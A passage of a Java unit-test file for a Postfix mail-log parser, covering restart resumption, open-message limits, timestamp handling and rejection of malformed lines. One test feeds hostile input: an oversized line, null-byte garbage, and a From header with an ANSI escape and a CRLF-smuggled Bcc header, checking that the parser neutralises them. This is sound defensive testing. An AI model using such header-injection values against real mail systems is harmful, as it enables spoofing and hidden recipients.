        for (int i = 0; i < 6; i++) {
            first.add(file[i]);
        }
        assertEquals(1, first.sink.events.size(), "DDDDD44444 is complete");
        long resume = before.earliestPendingPosition().orElseThrow();
        assertEquals(0L, resume, "CCCCC33333 started on the first line");

        // After the restart a new parser reads again from the saved position.
        PostfixParser after = new PostfixParser(context(NOW, false));
        Feed second = new Feed(resume, after);
        long pos = 0;
        for (String line : file) {
            if (pos >= resume) {
                second.add(line);
            }
            pos += line.getBytes(StandardCharsets.UTF_8).length + 1;
        }
        MailEvent c = second.sink.byLocalId("CCCCC33333");
        assertEquals("jsmith", c.getUserName(), "the smtpd line before the stop is read again");
        assertEquals("10.0.0.8", c.getSourceIp());
        assertEquals("jsmith@woh.sch.uk", c.getEmailSenderAddress());
        assertEquals("sent", c.getEmailRecipients().get(0).getStatus());
        assertEquals("outbound", c.getEmailDirection());
        assertEquals(OptionalLong.empty(), after.earliestPendingPosition());
    }

    @Test
    void messagesOpenTooLongAreEmittedAsTheyAre() {
        PostfixParser parser = new PostfixParser(context(NOW, false), 100_000, 5, 24L * 3600 * 1000);
        Feed f = new Feed(parser)
                .add(
                        "Nov 23 10:00:00 mail postfix/qmgr[3]: EEEEE55555: from=<jsmith@woh.sch.uk>, size=20, nrcpt=1 (queue"
                                + " active)",
                        "Nov 23 10:00:01 mail postfix/smtp[5]: EEEEE55555: to=<parent@slow.example>, relay=none, delay=1,"
                                + " delays=0/0/1/0, dsn=4.4.1, status=deferred (connect timed out)");
        for (int i = 0; i < 4; i++) {
            f.add("Nov 23 10:00:02 mail postfix/smtpd[9]: connect from unknown[198.51.100.3]");
        }
        assertTrue(f.sink.events.isEmpty());
        f.add("Nov 23 10:00:02 mail postfix/smtpd[9]: disconnect from unknown[198.51.100.3]");
        MailEvent e = f.sink.only();
        assertEquals("deferred", e.getEmailRecipients().get(0).getStatus(), "not final: still deferred");
        assertEquals(OptionalLong.empty(), parser.earliestPendingPosition());
    }

    @Test
    void messagesOpenMoreThanADayOfLogTimeAreEmitted() {
        PostfixParser parser = new PostfixParser(context(NOW, false));
        Feed f = new Feed(parser)
                .add(
                        "Nov 21 10:00:00 mail postfix/smtpd[1]: FFFFF66666: client=x.example[198.51.100.1]",
                        "Nov 22 09:59:59 mail postfix/smtpd[1]: connect from x.example[198.51.100.1]");
        assertTrue(f.sink.events.isEmpty());
        f.add("Nov 22 10:00:01 mail postfix/smtpd[1]: connect from x.example[198.51.100.1]");
        assertEquals(1, f.sink.events.size());
        assertTrue(f.sink.only().getEmailRecipients().isEmpty());
    }

    @Test
    void theNumberOfOpenMessagesIsCapped() {
        PostfixParser parser = new PostfixParser(context(NOW, false), 3, 10_000, 24L * 3600 * 1000);
        Feed f = new Feed(parser);
        for (int i = 0; i < 5; i++) {
            f.add("Nov 23 10:00:00 mail postfix/smtpd[1]: 1000" + i + "ABCDE: client=x.example[198.51.100.1]");
        }
        assertEquals(3, parser.openMessages());
        assertEquals(
                List.of("10000ABCDE", "10001ABCDE"),
                f.sink.events.stream().map(MailEvent::getEmailLocalId).toList(),
                "the oldest go first");
        f.flush();
        assertEquals(5, f.sink.events.size());
        assertEquals(OptionalLong.empty(), parser.earliestPendingPosition());
    }

    @Test
    void flushEmitsEveryOpenMessage() {
        Feed f = feed().add(OUTBOUND[0], OUTBOUND[1], OUTBOUND[7], OUTBOUND[9]);
        assertTrue(f.sink.events.isEmpty());
        f.flush();
        MailEvent e = f.sink.only();
        assertEquals("sent", e.getEmailRecipients().get(0).getStatus());
        assertEquals(f.lines.get(3), f.sink.completedBy.get(0), "completed by its last line");
    }

    // --------------------------------------------------------------------------------------- timestamps

    @Test
    void yearlessTimestampsTakeTheYearFromTheClock() {
        ParseContext newYear = context(Instant.parse("2027-01-01T00:30:00Z"), false);
        CollectingSink sink = new CollectingSink();
        PostfixParser parser = new PostfixParser(newYear);
        parser.parse(
                RawLine.of(
                        "Dec 31 23:59:00 mail postfix/smtpd[8]: NOQUEUE: reject: RCPT from"
                                + " x[198.51.100.1]: 550 no; from=<a@x.example> to=<b@woh.sch.uk> proto=SMTP helo=<x>",
                        "t",
                        1),
                sink);
        parser.parse(
                RawLine.of(
                        "Jan  1 00:10:00 mail postfix/smtpd[8]: NOQUEUE: reject: RCPT from"
                                + " x[198.51.100.1]: 550 no; from=<a@x.example> to=<b@woh.sch.uk> proto=SMTP helo=<x>",
                        "t",
                        2),
                sink);
        assertEquals(Instant.parse("2026-12-31T23:59:00Z"), sink.events.get(0).getTimestamp());
        assertEquals(Instant.parse("2027-01-01T00:10:00Z"), sink.events.get(1).getTimestamp());
    }

    @Test
    void aYearlessTimeMoreThanADayAheadIsLastYear() {
        CollectingSink sink = new CollectingSink();
        PostfixParser parser = new PostfixParser(context(NOW, false));
        String rest = " mail postfix/smtpd[8]: NOQUEUE: reject: RCPT from x[198.51.100.1]: 550 no; from=<a@x.example>"
                + " to=<b@woh.sch.uk> proto=SMTP helo=<x>";
        parser.parse(RawLine.of("Nov 24 11:00:00" + rest, "t", 1), sink);
        parser.parse(RawLine.of("Nov 25 13:00:00" + rest, "t", 2), sink);
        parser.parse(RawLine.of("Jul  1 09:00:00" + rest, "t", 3), sink);
        assertEquals(Instant.parse("2026-11-24T11:00:00Z"), sink.events.get(0).getTimestamp(), "within a day");
        assertEquals(Instant.parse("2025-11-25T13:00:00Z"), sink.events.get(1).getTimestamp());
        assertEquals(Instant.parse("2026-07-01T08:00:00Z"), sink.events.get(2).getTimestamp(), "BST is UTC+1");
    }

    @Test
    void isoTimestampsWithAndWithoutOffsetAndSyslogPriorities() {
        String rest = " mail postfix/smtps/smtpd[8]: NOQUEUE: reject: RCPT from x[198.51.100.1]: 550 no;"
                + " from=<a@x.example> to=<b@woh.sch.uk> proto=SMTP helo=<x>";
        CollectingSink sink = new CollectingSink();
        PostfixParser parser = new PostfixParser(context(NOW, false));
        parser.parse(RawLine.of("2026-07-01T09:15:02.123456+01:00" + rest, "t", 1), sink);
        parser.parse(RawLine.of("2026-07-01T09:15:02" + rest, "t", 2), sink);
        parser.parse(RawLine.of("2026-07-01T08:15:02Z" + rest, "t", 3), sink);
        parser.parse(RawLine.of("<22>Jul  1 09:15:02" + rest, "t", 4), sink);
        parser.parse(
                RawLine.of(
                        "<22>1 2026-07-01T08:15:02.5Z mail postfix/smtpd 8 - - NOQUEUE: reject: RCPT from"
                                + " x[198.51.100.1]: 550 no; from=<a@x.example> to=<b@woh.sch.uk> proto=SMTP helo=<x>",
                        "t",
                        5),
                sink);
        parser.parse(
                RawLine.of(
                        "Jul  1 09:15:02 postfix/smtpd[8]: NOQUEUE: reject: RCPT from x[198.51.100.1]: 550 no;"
                                + " from=<a@x.example> to=<b@woh.sch.uk> proto=SMTP helo=<x>",
                        "t",
                        6),
                sink);
        assertTrue(sink.rejected.isEmpty(), sink.rejected.toString());
        assertEquals(6, sink.events.size());
        assertNull(sink.events.get(5).getObserverHostname(), "a syslog line without a host name");
        assertEquals(Instant.parse("2026-07-01T08:15:02Z"), sink.events.get(5).getTimestamp());
        assertEquals(
                Instant.parse("2026-07-01T08:15:02.123Z"), sink.events.get(0).getTimestamp());
        assertEquals(Instant.parse("2026-07-01T08:15:02Z"), sink.events.get(1).getTimestamp(), "local time, BST");
        assertEquals(Instant.parse("2026-07-01T08:15:02Z"), sink.events.get(2).getTimestamp());
        assertEquals(Instant.parse("2026-07-01T08:15:02Z"), sink.events.get(3).getTimestamp());
        assertEquals(
                Instant.parse("2026-07-01T08:15:02.500Z"), sink.events.get(4).getTimestamp());
        assertEquals("mail", sink.events.get(4).getObserverHostname());
        assertEquals(5L, sink.events.get(4).getLogLine());
    }

    // --------------------------------------------------------------------------------------- noise and rejects

    @Test
    void otherProgramsAndPostfixChatterAreSkippedNotRejected() {
        Feed f = feed().add(
                        "Nov 23 09:00:00 mail dovecot: imap-login: Login: user=<jsmith>, method=PLAIN, rip=10.0.0.5",
                        "Nov 23 09:00:00 mail CRON[2231]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)",
                        "Nov 23 09:00:00 mail opendkim[700]: 4F2A31C0E12: DKIM-Signature field added (s=mail, d=woh.sch.uk)",
                        "Nov 23 09:00:00 mail postfix/smtpd[1]: connect from unknown[198.51.100.3]",
                        "Nov 23 09:00:00 mail postfix/smtpd[1]: disconnect from unknown[198.51.100.3] ehlo=1 quit=1"
                                + " commands=2",
                        "Nov 23 09:00:00 mail postfix/smtpd[1]: lost connection after AUTH from unknown[198.51.100.3]",
                        "Nov 23 09:00:00 mail postfix/smtpd[1]: warning: unknown[198.51.100.3]: SASL LOGIN authentication"
                                + " failed: UGFzc3dvcmQ6",
                        "Nov 23 09:00:00 mail postfix/postscreen[2]: CONNECT from [198.51.100.3]:51515 to [10.0.0.1]:25",
                        "Nov 23 09:00:00 mail postfix/anvil[3]: statistics: max connection rate 1/60s for"
                                + " (smtp:198.51.100.3) at Nov 23 08:58:00",
                        "Nov 23 09:00:00 mail postfix/smtpd[1]: NOQUEUE: reject: EHLO from x[198.51.100.3]: 504 5.5.2 <x>:"
                                + " Helo command rejected: need fully-qualified hostname; proto=SMTP helo=<x>",
                        "Nov 23 09:00:00 mail postfix/smtpd[1]: NOQUEUE: reject_warning: RCPT from x[198.51.100.3]: 450 x;"
                                + " from=<a@x.example> to=<b@woh.sch.uk> proto=SMTP helo=<x>",
                        "Nov 23 09:00:00 mail last message repeated 3 times",
                        "",
                        "   ",
                        "# a comment");
        assertTrue(f.sink.rejected.isEmpty(), f.sink.rejected.toString());
        f.flush();
        assertTrue(f.sink.events.isEmpty(), f.sink.events.toString());
    }

    @Test
    void linesThatAreNotSyslogAreRejectedWithAReason() {
        Feed f = feed().add(
                        "hello world",
                        "Nov 23 09:15",
                        "Nov 23 09:15:02 mail",
                        "Nov 23 09:15:02 mail this has no tag",
                        "Feb 30 09:15:02 mail postfix/smtpd[1]: connect from x[198.51.100.1]",
                        "2026-13-01T09:15:02Z mail postfix/smtpd[1]: connect from x[198.51.100.1]",
                        "Nov 23 09:15:02 mail postfix/smtp[1]: 4F2A31C0E12: to=<unterminated@woh.sch.uk, relay=none");
        assertEquals(7, f.sink.rejected.size(), f.sink.rejected.toString());
        assertTrue(
                f.sink.rejected.get(0).reason().contains("no syslog timestamp"),
                f.sink.rejected.get(0).reason());
        assertTrue(
                f.sink.rejected.get(1).reason().contains("HH:MM:SS"),
                f.sink.rejected.get(1).reason());
        assertTrue(
                f.sink.rejected.get(2).reason().contains("no program tag"),
                f.sink.rejected.get(2).reason());
        assertTrue(
                f.sink.rejected.get(3).reason().contains("program[pid]:"),
                f.sink.rejected.get(3).reason());
        assertTrue(
                f.sink.rejected.get(4).reason().contains("not a date"),
                f.sink.rejected.get(4).reason());
        assertTrue(
                f.sink.rejected.get(5).reason().contains("out of range"),
                f.sink.rejected.get(5).reason());
        assertTrue(
                f.sink.rejected.get(6).reason().contains("to=<"),
                f.sink.rejected.get(6).reason());
        for (CollectingSink.Rejected r : f.sink.rejected) {
            assertTrue(r.reason().length() < 200, r.reason());
        }
    }

    @Test
    void hostileLines() {
        String huge = "Nov 23 09:15:02 mail postfix/cleanup[2]: 4A4A4A4A4A: info: header Subject: "
                + "A".repeat(1 << 20) + " from x[198.51.100.1]; from=<a@x.example> to=<b@woh.sch.uk> proto=SMTP";
        String garbage = "\u0000\u0001" + "x".repeat(1 << 20);
        Feed f = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> feed().add(
                        huge,
                        garbage,
                        "Nov 23 09:15:02 mail postfix/cleanup[2]: 4A4A4A4A4A: info: header From: \"Evil\u001b[31m\r\nBcc:"
                                + " x@y\" <evil@x.example> from x[198.51.100.1]; from=<a@x.example> to=<b@woh.sch.uk>",
                        "Nov 23 09:15:02 mail postfix/cleanup[2]: 4A4A4A4A4A: info: header To: =?utf-8?B?!!!notbase64?="
                                + " <b@woh.sch.uk>, \uFFFD\uFFFD <c@woh.sch.uk> from x[198.51.100.1]; from=<a@x.example>"
                                + " to=<b@woh.sch.uk>",
                        "Nov 23 09:15:02 mail postfix/qmgr[1]: 4A4A4A4A4A: removed"));
        assertEquals(1, f.sink.rejected.size(), "only the garbage line");
        assertTrue(f.sink.rejected.get(0).reason().length() < 200);
        MailEvent e = f.sink.only();
        assertEquals(998, e.getEmailSubject().length(), "clipped");
        assertEquals("evil@x.example", e.getEmailFromAddress());
        assertFalse(e.getEmailFromName().chars().anyMatch(c -> c < 0x20), e.getEmailFromName());
        assertEquals(List.of("b@woh.sch.uk", "c@woh.sch.uk"), e.getEmailToAddress());
    }

    @Test
    void manyMessagesInARowLeaveNothingOpen() {
        List<String> day = new ArrayList<>();
        for (int i = 0; i < 5_000; i++) {
            String qid = String.format("%010X", 0x1000000000L + i);
            for (String line : OUTBOUND) {
                day.add(line.replace("4F2A31C0E12", qid));
            }
        }
        PostfixParser parser = new PostfixParser(context(NOW, false));
        CollectingSink sink = new CollectingSink();
        long n = 0;
        for (String line : day) {
            parser.parse(new RawLine(line, "f", ++n, n * 200), sink);
        }
        assertEquals(5_000, sink.events.size());
        assertTrue(sink.rejected.isEmpty());
        assertEquals(0, parser.openMessages());
        assertEquals(OptionalLong.empty(), parser.earliestPendingPosition());
        assertEquals("1000001387", sink.events.get(4_999).getEmailLocalId());
    }
}
